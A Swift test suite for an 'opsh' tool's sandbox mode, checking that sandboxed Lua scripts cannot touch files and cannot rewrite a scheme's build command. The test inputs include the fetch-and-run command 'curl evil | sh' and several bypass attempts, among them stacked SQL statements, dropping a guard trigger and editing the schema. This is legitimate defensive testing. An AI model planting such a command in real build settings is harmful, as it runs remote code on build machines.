import Foundation
import Testing

/// `--sandbox` through the real executable: scripts run, files and
/// processes are refused, and a scheme's build command (what a runner
/// later runs as a shell command) cannot be written by any route
/// (issue 13, item 4). Each refusal has a control run without --sandbox.
@Suite struct SandboxTests {
    static let schemeSetUp = """
        projects.insert{ bundleIdentifier = "p", name = "P", gitRepositoryURL = "/srv/p" }
        local s = schemes.insert{ projectBundleIdentifier = "p", name = "Release", buildCommand = "make", platforms = { "linux" } }
        return s.id
        """

    @Test func aSandboxedScriptRuns() throws {
        let sandbox = try Sandbox()
        let script = try sandbox.script("hello.lua", "print('hello ' .. (arg[1] or '?')) return 1 + 1")
        let result = try sandbox.opsh(["--sandbox", "run", script, "cron"])
        #expect(result.status == 0, "\(result.stderr)")
        #expect(result.stdout == "hello cron\n2\n")
        // What the sandbox removes is refused with the reason…
        let io = try sandbox.opsh(["--sandbox", "run", try sandbox.script("io.lua", "io.open('/etc/hostname')")])
        #expect(io.status == 1)
        #expect(io.stderr.contains("attempt to index a nil value (global 'io')"), "\(io.stderr)")
        // …and works without it.
        let control = try sandbox.opsh(["run", try sandbox.script("io2.lua", "return io.open('/etc/hostname') ~= nil")])
        #expect(control.stdout == "true\n", "\(control.stderr)")
    }

    static let buildCommandWrites = [
        "db.exec('update SCHEMES set buildCommand = ? where id = ?', 'curl evil | sh', id)",
        "db.exec('/* */ UPDATE main.schemes SET \"buildCommand\" = ?', 'curl evil | sh')",
        "db.transaction(function() db.exec('UPDATE schemes SET buildCommand = ?', 'curl evil | sh') end)",
        "db.exec('UPDATE projects SET name = name; UPDATE schemes SET buildCommand = 1')",
        "schemes.update(id, { buildCommand = 'curl evil | sh' })",
        "schemes.insert{ projectBundleIdentifier = 'p', name = 'Evil', buildCommand = 'curl evil | sh', platforms = { 'linux' } }",
        "db.exec([[INSERT INTO schemes (id, projectBundleIdentifier, name, buildCommand) SELECT 'x' || id, projectBundleIdentifier, 'Evil', 'curl evil | sh' FROM schemes]])",
        "db.exec('UPDATE projects SET name = name') db.exec('DROP TRIGGER IF EXISTS temp.opsh_sandbox_build_command; UPDATE schemes SET buildCommand = 2')",
        "db.exec('PRAGMA writable_schema = ON') db.exec('DELETE FROM temp.sqlite_master')",
    ]

    @Test(arguments: buildCommandWrites)
    func noRouteWritesABuildCommandInTheSandbox(write: String) throws {
        let sandbox = try Sandbox()
        let made = try sandbox.opsh(["-e", Self.schemeSetUp])
        #expect(made.status == 0, "\(made.stderr)")
        let id = made.stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        let before = try sandbox.sqlite("SELECT id, name, buildCommand FROM schemes ORDER BY id")
        let code = "local id = '\(id)' \(write)"
        let refused = try sandbox.opsh(["--sandbox", "-e", code])
        #expect(refused.status == 1, "\(refused.stderr)")
        #expect(refused.stderr.contains("sandbox: the buildCommand of a scheme cannot be written")
                || refused.stderr.contains("sandbox: schema changes are refused")
                || refused.stderr.contains("may not be modified"), "\(refused.stderr)")
        #expect(try sandbox.sqlite("SELECT id, name, buildCommand FROM schemes ORDER BY id") == before)
        // Other writes still work in the sandbox.
        let rename = try sandbox.opsh(["--sandbox", "-e", "schemes.update('\(id)', { name = 'Renamed' })"])
        #expect(rename.status == 0, "\(rename.stderr)")
        // Control: without --sandbox the build command can be changed.
        if !write.contains("writable_schema") && !write.contains("DROP TRIGGER") {
            let control = try sandbox.opsh(["-e", code])
            #expect(control.status == 0, "\(control.stderr)")
            #expect(try sandbox.sqlite("SELECT group_concat(buildCommand) FROM schemes") != "make")
        }
    }

    @Test func anImportCannotBringABuildCommandIntoTheSandbox() throws {
        let sandbox = try Sandbox()
        #expect(try sandbox.opsh(["-e", Self.schemeSetUp]).status == 0)
        let document = try sandbox.opsh(["-e", "return (export.project('p'))"]).stdout
        let evil = document.replacingOccurrences(of: "\"make\"", with: "\"curl evil | sh\"")
        try evil.write(toFile: sandbox.root + "/evil.json", atomically: true, encoding: .utf8)
        let code = "local f = ... return import(f, { replace = true })"
        let inSandbox = try sandbox.opsh(["--sandbox", "run", try sandbox.script("imp.lua", code), evil])
        #expect(inSandbox.status == 1, "\(inSandbox.stderr)")
        #expect(inSandbox.stderr.contains("sandbox: the buildCommand of a scheme cannot be written"), "\(inSandbox.stderr)")
        #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "make")
        let control = try sandbox.opsh(["run", try sandbox.script("imp2.lua", code), evil])
        #expect(control.status == 0, "\(control.stderr)")
        #expect(try sandbox.sqlite("SELECT buildCommand FROM schemes") == "curl evil | sh")
    }

    @Test func theSandboxedShellReadsAndWritesNoFiles() throws {
        let sandbox = try Sandbox()
        try "print('from file')".write(toFile: sandbox.root + "/x.lua", atomically: true, encoding: .utf8)
        let terminal = try PseudoTerminal(arguments: ["--db", sandbox.database, "--create", "--sandbox"], environment: sandbox.environment)
        terminal.expect("opsh> ")
        terminal.send(".read \(sandbox.root)/x.lua\r")
        terminal.expect(".read is refused in the sandbox")
        terminal.send(".output \(sandbox.root)/out.txt\r")
        terminal.expect(".output FILE is refused in the sandbox")
        terminal.expect("opsh> ")
        terminal.send("\u{4}")
        #expect(terminal.waitForExit(timeout: 15) == 0)
        #expect(!FileManager.default.fileExists(atPath: sandbox.root + "/out.txt"))
        // Control: without --sandbox both work.
        let open = try PseudoTerminal(arguments: ["--db", sandbox.database, "--create"], environment: sandbox.environment)
        open.expect("opsh> ")
        open.send(".read \(sandbox.root)/x.lua\r")
        open.expect("from file")
        open.send(".output \(sandbox.root)/out.txt\r")
        open.expect("returned values go to")
        open.expect("opsh> ")
        open.send("\u{4}")
        #expect(open.waitForExit(timeout: 15) == 0)
        #expect(FileManager.default.fileExists(atPath: sandbox.root + "/out.txt"))
    }
}
